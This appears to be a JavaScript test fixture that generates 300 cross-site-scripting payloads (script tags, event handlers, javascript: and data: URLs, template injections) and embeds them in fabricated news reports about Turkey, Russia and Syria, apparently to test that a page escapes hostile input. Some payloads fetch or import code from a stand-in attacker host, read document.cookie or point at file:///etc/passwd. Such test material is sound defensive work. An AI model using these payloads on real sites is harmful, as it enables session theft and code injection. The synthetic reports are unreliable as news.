// Reports that try to be markup, scripts, styles and addresses, in every field that a page shows. 300 payloads: openings, bodies, targets.

const MARKUP = [
  '<script>BODY</script>',
  '<img src=x onerror="BODY">',
  '<svg onload="BODY">',
  '<svg><script>BODY</script></svg>',
  '"><script>BODY</script>',
  "'><img src=x onerror=BODY>",
  '</title><script>BODY</script>',
  '</textarea><script>BODY</script>',
  '<iframe srcdoc="<script>BODY</script>">',
  '<a href="javascript:BODY">x</a>',
  '<math><mi xlink:href="javascript:BODY">',
  '<style>*{background:url(javascript:BODY)}</style>',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<body onload=BODY>',
  '<details open ontoggle=BODY>',
  '<video><source onerror=BODY>',
  '<marquee onstart=BODY>',
  '<object data="javascript:BODY">',
  '<embed src="javascript:BODY">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:BODY">',
  '<form action="javascript:BODY"><button>x',
  '<input autofocus onfocus=BODY>',
  '<template><script>BODY</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=BODY>">',
  '<!--><script>BODY</script>-->',
  '<![CDATA[<script>BODY</script>]]>',
  '{{constructor.constructor("BODY")()}}',
  '${BODY}',
  '<div style="background:url(//evil.example/BODY)">',
];

const BODIES = [
  'window.harmed=1',
  'alert(1)',
  'fetch("//evil.example")',
  'document.body.remove()',
  'location="//evil.example"',
  'eval("window.harmed=1")',
  'window[`harmed`]=1',
  'top.harmed=1',
  'import("//evil.example/x.js")',
  'self.harmed=document.cookie',
];

const ADDRESSES = [
  'javascript:window.harmed=1',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>parent.harmed=1</script>',
  ' javascript:alert(1)',
  'vbscript:x',
  'https://example.org/"onmouseover="window.harmed=1',
  '//evil.example/x',
  'http://example.org/<script>',
  'file:///etc/passwd',
  'blob:x',
];

export const payloads = MARKUP.flatMap((markup) => BODIES.map((body) => markup.replaceAll('BODY', body)));

/** JSON lines of reports: each carries four payloads and tells of acts, so that names, places and words hold them too. */
export function hostileReports() {
  const reports = [];
  for (let i = 0; i < payloads.length; i += 3) {
    const [a, b, c] = [0, 1, 2].map((n) => payloads[(i + n) % payloads.length]);
    reports.push({
      id: `hostile-${i}${c}`,
      date: `2021-0${1 + (i % 9)}-1${i % 10}`,
      title: `Turkey condemns ${a}`,
      outlet: `Outlet ${b}`,
      url: ADDRESSES[i % ADDRESSES.length],
      text:
        `ANKARA, Turkey - Turkey's president, Recep ${a} Erdogan, met Russian President Vladimir Putin in Moscow ` +
        `on Monday. "${b}," he said.\n\n` +
        `The ${c} Brigade attacked Syrian forces in Idlib, killing ${i + 2} soldiers, the ${b} Ministry said.\n\n` +
        `Russia denied that it had bombed ${a}. Turkey will send troops to Libya in March, Foreign Minister ${c} Cavusoglu said.`,
    });
  }
  return `${reports.map((report) => JSON.stringify(report)).join('\n')}\n`;
}
